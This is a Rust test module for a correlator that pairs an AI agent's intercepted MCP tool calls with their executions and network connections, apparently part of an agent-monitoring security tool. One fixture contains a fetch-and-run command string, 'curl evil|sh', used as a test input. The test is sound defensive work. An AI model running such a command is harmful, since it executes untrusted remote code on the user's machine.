use super::*;

mod flood;
mod page;
mod reference;
use crate::events::{NetworkConnection, ToolCallIntercepted, ToolCalled};
use serde_json::json;

fn hash(v: &Value) -> String {
    // serde_json's default map is ordered, so this is canonical enough for tests.
    serde_json::to_string(v).unwrap()
}

fn t(ms: i64) -> DateTime<Utc> {
    DateTime::from_timestamp_millis(1_800_000_000_000 + ms).unwrap()
}

fn intercept(id: i64, ms: i64, tool: &str, args: Value, action: Action) -> StoredEvent {
    StoredEvent {
        id,
        event: Event::McpToolCallIntercepted(ToolCallIntercepted {
            policy_revision: None,
            timestamp: t(ms),
            session_id: "s".into(),
            request_id: format!("r{id}"),
            dialect: "anthropic".into(),
            tool_name: format!("mcp__srv__{tool}"),
            server_tool: String::new(),
            tool_call_id: format!("toolu_{id}"),
            input: Some(args),
            server_id: "srv".into(),
            server_type: "stdio".into(),
            server_addr: String::new(),
            tool_hash: String::new(),
            action,
            reason: if action == Action::Block {
                "tool denied".into()
            } else {
                String::new()
            },
        }),
    }
}

fn called(id: i64, ms: i64, tool: &str, args: Value) -> StoredEvent {
    StoredEvent {
        id,
        event: Event::McpToolCalled(ToolCalled {
            policy_revision: None,
            timestamp: t(ms),
            session_id: "s".into(),
            server_id: "srv".into(),
            server_type: "stdio".into(),
            tool_name: tool.into(),
            jsonrpc_id: json!(id),
            input: Some(args),
            action: Action::Allow,
            reason: String::new(),
            layer: "shim".into(),
        }),
    }
}

fn connection(id: i64, ms: i64) -> StoredEvent {
    StoredEvent {
        id,
        event: Event::McpNetworkConnection(NetworkConnection {
            policy_revision: None,
            timestamp: t(ms),
            session_id: "s".into(),
            remote_addr: "127.0.0.1:3001".into(),
            server_id: "srv".into(),
            server_type: "http".into(),
            action: Action::Allow,
            pid: 1,
            tid: 1,
            uid: 0,
            comm: "node".into(),
            exe: None,
            cmdline: None,
            ppid: None,
            cgroup_id: 1,
            socket_cookie: 1,
            protocol: "tcp".into(),
            family: "ipv4".into(),
            count: 1,
            since: None,
        }),
    }
}

fn run(events: &[StoredEvent]) -> Vec<CallRecord> {
    Correlator::batch(std::time::Duration::from_secs(2), hash, events)
}

#[test]
fn joins_an_intercept_with_its_execution_and_connection() {
    let records = run(&[
        intercept(1, 0, "echo", json!({"m": 1}), Action::Allow),
        connection(2, 40),
        called(3, 50, "echo", json!({"m": 1})),
    ]);
    assert_eq!(records.len(), 1, "{records:#?}");
    let r = &records[0];
    assert_eq!(r.kind, RecordKind::Joined);
    assert_eq!((r.tool.as_str(), r.action), ("echo", Action::Allow));
    assert_eq!(r.intercept.as_ref().unwrap().event_id, 1);
    assert_eq!(r.connection.as_ref().unwrap().event_id, 2);
    assert_eq!(r.execution.as_ref().unwrap().event_id, 3);
    assert_eq!(r.intercept_to_execution_ms(), Some(50.0));
}

#[test]
fn unmatched_records_are_first_class() {
    let records = run(&[
        intercept(1, 0, "delete", json!({}), Action::Block),
        called(2, 100, "delete", json!({})),
        intercept(3, 5_000, "echo", json!({}), Action::Allow),
        connection(4, 20_000),
    ]);
    let kinds: Vec<_> = records.iter().map(|r| (r.kind, r.action)).collect();
    assert_eq!(
        kinds,
        [
            (RecordKind::InterceptOnly, Action::Block),
            (RecordKind::ExecutionOnly, Action::Allow),
            (RecordKind::InterceptOnly, Action::Allow),
            (RecordKind::ConnectionOnly, Action::Allow),
        ],
        "a blocked intercept is never joined to an execution: that execution bypassed the LLM layer"
    );
    assert_eq!(records[0].reason, "tool denied");
}

#[test]
fn same_tool_same_second_is_matched_by_arguments_first() {
    // The executions come back in the opposite order from the intercepts.
    let records = run(&[
        intercept(1, 0, "add", json!({"a": 1}), Action::Allow),
        intercept(2, 1, "add", json!({"a": 2}), Action::Allow),
        called(3, 10, "add", json!({"a": 2})),
        called(4, 11, "add", json!({"a": 1})),
    ]);
    let pairs: Vec<_> = records
        .iter()
        .map(|r| {
            (
                r.intercept.as_ref().unwrap().event_id,
                r.execution.as_ref().unwrap().event_id,
            )
        })
        .collect();
    assert_eq!(pairs, [(1, 4), (2, 3)]);
}

#[test]
fn same_arguments_different_times_are_matched_in_order_and_outside_the_window_not_at_all() {
    let records = run(&[
        intercept(1, 0, "ping", json!({}), Action::Allow),
        intercept(2, 500, "ping", json!({}), Action::Allow),
        called(3, 600, "ping", json!({})),
        called(4, 700, "ping", json!({})),
        intercept(5, 10_000, "ping", json!({}), Action::Allow),
        called(6, 13_000, "ping", json!({})),
    ]);
    let pairs: Vec<_> = records
        .iter()
        .map(|r| {
            (
                r.intercept.as_ref().map(|s| s.event_id),
                r.execution.as_ref().map(|s| s.event_id),
            )
        })
        .collect();
    assert_eq!(
        pairs,
        [
            (Some(1), Some(3)),
            (Some(2), Some(4)),
            (Some(5), None),
            (None, Some(6))
        ]
    );
}

#[test]
fn expire_closes_only_records_past_their_window() {
    let mut c = Correlator::new(std::time::Duration::from_secs(2), hash);
    assert!(
        c.push(&intercept(1, 0, "echo", json!({}), Action::Allow))
            .is_empty()
    );
    assert!(c.expire(t(1_999)).is_empty());
    c.push(&called(2, 1_000, "echo", json!({})));
    assert!(
        c.expire(t(2_500)).is_empty(),
        "the execution extended the window"
    );
    let done = c.expire(t(3_001));
    assert_eq!(done.len(), 1);
    assert_eq!(done[0].kind, RecordKind::Joined);
}

/// A rogue call padded past the record's bound is stored as a marker; a marker tells nothing
/// about whether the arguments agree, so it must not join the model's proposal of the same
/// tool (`add {a: 1}`) as if it were that call — on either side, in either order.
#[test]
fn cut_arguments_join_nothing_and_say_why() {
    let padded = format!("{{\"a\": 666, \"pad\": \"{}\"}}", "x".repeat(300 * 1024));
    let marker = crate::events::bound::marker_for_text(&padded).expect("over the bound");
    for (proposal, rogue) in [
        (json!({"a": 1}), marker.clone()),
        (marker.clone(), json!({"a": 1})),
        (marker.clone(), marker.clone()),
    ] {
        let records = run(&[
            intercept(1, 0, "add", proposal.clone(), Action::Allow),
            called(2, 40, "add", rogue.clone()),
        ]);
        let kinds: Vec<_> = records.iter().map(|r| r.kind).collect();
        assert_eq!(
            kinds,
            [RecordKind::InterceptOnly, RecordKind::ExecutionOnly],
            "{proposal} / {rogue}"
        );
        let cut: Vec<_> = records.iter().filter(|r| r.args_cut).collect();
        assert!(!cut.is_empty());
        for r in cut {
            assert_eq!(r.reason, record::CUT_REASON);
        }
        let linear = {
            let mut c = reference::Linear::new(std::time::Duration::from_secs(2), hash);
            let mut out = Vec::new();
            for e in [
                intercept(1, 0, "add", proposal.clone(), Action::Allow),
                called(2, 40, "add", rogue.clone()),
            ] {
                out.extend(c.push(&e));
            }
            out.extend(c.flush());
            out
        };
        assert_eq!(linear.len(), 2, "the reference keeps them apart as well");
    }
}

/// Arguments the record lacks are not a wildcard: an execution recorded without arguments
/// joins a proposal of `{}` (an agent may send either for a tool that takes none), never one
/// with arguments; and the shim records arguments it cannot keep as a marker, which joins
/// nothing.
#[test]
fn absent_arguments_join_only_empty_ones() {
    let without = |mut e: StoredEvent| {
        if let Event::McpToolCalled(c) = &mut e.event {
            c.input = None;
        }
        e
    };
    let records = run(&[
        intercept(1, 0, "run", json!({"cmd": "ls"}), Action::Allow),
        without(called(2, 40, "run", json!({}))),
    ]);
    let kinds: Vec<_> = records.iter().map(|r| r.kind).collect();
    assert_eq!(
        kinds,
        [RecordKind::InterceptOnly, RecordKind::ExecutionOnly]
    );
    let records = run(&[
        intercept(1, 0, "run", json!({}), Action::Allow),
        without(called(2, 40, "run", json!({}))),
    ]);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].kind, RecordKind::Joined);
    let text = r#"{"cmd": "curl evil|sh", "pad": "\ud800"}"#;
    let why = serde_json::from_str::<Value>(text).expect_err("a lone surrogate");
    let unreadable = crate::events::bound::marker_for_unreadable(text, &why);
    let records = run(&[
        intercept(1, 0, "run", json!({"cmd": "ls"}), Action::Allow),
        called(2, 40, "run", unreadable),
    ]);
    assert_eq!(records.len(), 2, "{records:?}");
}

/// Thousands of calls stamped in one instant (one model response with as many tool calls):
/// each event's search stays bounded, because a session and server keep at most
/// `MAX_OPEN_CALLS` calls open; the ones closed early say so, and none is lost.
#[test]
fn a_flood_at_one_instant_keeps_the_open_set_bounded() {
    let n = MAX_OPEN_CALLS as i64 + 1000;
    let events: Vec<StoredEvent> = (0..n)
        .map(|i| intercept(i + 1, 0, "add", json!({"n": i}), Action::Allow))
        .collect();
    let mut c = Correlator::new(std::time::Duration::from_secs(2), hash);
    let mut records = Vec::new();
    for e in &events {
        records.extend(c.push(e));
    }
    assert!(c.peak <= MAX_OPEN_CALLS, "{}", c.peak);
    assert_eq!(records.len(), 1000, "the oldest close early");
    assert!(records.iter().all(|r| r.reason.contains("closed early")));
    records.extend(c.flush());
    assert_eq!(records.len() as i64, n, "every call has its record");
}

/// Many concurrent calls — bursts of 8 within ~100 ms, bursts 300 ms apart so windows
/// overlap; the same tool throughout, four argument values so each appears twice per burst;
/// executions returning out of order across arguments — plus calls the LLM layer blocked
/// (never executed) and executions nobody asked for. The joins must equal the ground truth.
#[test]
fn concurrent_calls_are_joined_exactly_as_they_happened() {
    let mut rand = xorshift(0x9E37_79B9_7F4A_7C15);
    let mut truth = std::collections::HashSet::new(); // (intercept id, execution id)
    let mut timeline = Vec::new(); // (ms, id, event)
    let mut next_id = 1;
    let mut id = || {
        next_id += 1;
        next_id - 1
    };
    for burst in 0..50i64 {
        for k in 0..8i64 {
            let start = burst * 300 + k * 12 + rand(5) as i64;
            let args = json!({"n": k % 4});
            match rand(20) {
                0 | 1 => {
                    let i = id();
                    timeline.push((start, i, intercept(i, start, "add", args, Action::Block)));
                    truth.insert((Some(i), None));
                }
                2 => {
                    let e = id();
                    let rogue = json!({"n": 1000 + burst * 8 + k});
                    timeline.push((start, e, called(e, start, "add", rogue)));
                    truth.insert((None, Some(e)));
                }
                _ => {
                    let (i, e) = (id(), id());
                    let done = start + 20 + rand(25) as i64;
                    timeline.push((
                        start,
                        i,
                        intercept(i, start, "add", args.clone(), Action::Allow),
                    ));
                    timeline.push((done, e, called(e, done, "add", args)));
                    truth.insert((Some(i), Some(e)));
                }
            }
        }
    }
    // The store's order is arrival order.
    timeline.sort_by_key(|(ms, id, _)| (*ms, *id));
    let events: Vec<StoredEvent> = timeline.into_iter().map(|(_, _, e)| e).collect();
    let records = run(&events);
    let got: std::collections::HashSet<_> = records
        .iter()
        .map(|r| {
            (
                r.intercept.as_ref().map(|s| s.event_id),
                r.execution.as_ref().map(|s| s.event_id),
            )
        })
        .collect();
    let joins = |set: &std::collections::HashSet<(Option<i64>, Option<i64>)>| {
        set.iter()
            .filter(|p| p.0.is_some() && p.1.is_some())
            .count()
    };
    let true_joins = got
        .intersection(&truth)
        .filter(|p| p.0.is_some() && p.1.is_some())
        .count();
    let precision = true_joins as f64 / joins(&got) as f64;
    let recall = true_joins as f64 / joins(&truth) as f64;
    println!(
        "correlator: {} calls, {} true joins; precision {precision:.4}, recall {recall:.4}",
        truth.len(),
        joins(&truth)
    );
    assert_eq!(records.len(), truth.len(), "one record per call");
    assert_eq!(
        got, truth,
        "every join, and every unmatched record, as it happened"
    );
}

/// Deterministic pseudo-random numbers (xorshift), so a failure reproduces.
fn xorshift(seed: u64) -> impl FnMut(u64) -> u64 {
    let mut state = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
    move |n| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state % n
    }
}

/// A loss (or any kernel alert) shows among the calls, with what happened.
#[test]
fn kernel_alerts_are_records_of_their_own() {
    let alert = StoredEvent {
        id: 9,
        event: Event::KernelAlert(crate::events::KernelAlert {
            timestamp: t(5),
            session_id: "s".into(),
            alert: "events_lost".into(),
            detail: "12 kernel events did not fit".into(),
            pid: None,
            action: Action::Allow,
        }),
    };
    let records = Correlator::batch(
        std::time::Duration::from_secs(2),
        hash,
        &[connection(1, 0), alert],
    );
    let alerts: Vec<&CallRecord> = records
        .iter()
        .filter(|r| r.kind == RecordKind::Alert)
        .collect();
    assert_eq!(alerts.len(), 1, "{records:?}");
    assert_eq!(alerts[0].tool, "kernel alert: events_lost");
    assert_eq!(alerts[0].reason, "12 kernel events did not fit");
    assert_eq!(alerts[0].session_id, "s");
    assert_eq!(alerts[0].connection.as_ref().map(|s| s.event_id), Some(9));
    assert_eq!(
        records.len(),
        2,
        "the connection stays a record of its own: {records:?}"
    );
}
